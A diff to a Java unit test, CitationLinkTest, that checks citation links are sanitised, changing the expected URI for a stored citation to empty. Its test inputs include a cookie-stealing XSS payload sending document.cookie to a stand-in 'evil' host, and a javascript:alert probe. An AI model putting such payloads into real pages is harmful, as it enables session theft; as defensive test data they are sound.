@@ -31,6 +31,6 @@ class CitationLinkTest {
                 "javascript:fetch('//evil/'+document.cookie)", "hash");
         assertThat(chunk.uri()).isEqualTo("/source/wiki/Drift%20chamber.md?lines=3-9");
         Citation kept = new Citation(1, "t", "a.md", List.of(), "4-5", "javascript:alert(1)", "s", "docs");
-        assertThat(kept.uri()).isEqualTo("/source/docs/a.md?lines=4-5");
+        assertThat(kept.uri()).as("a stored citation: no link, so clients open their viewer").isEmpty();
     }
 }
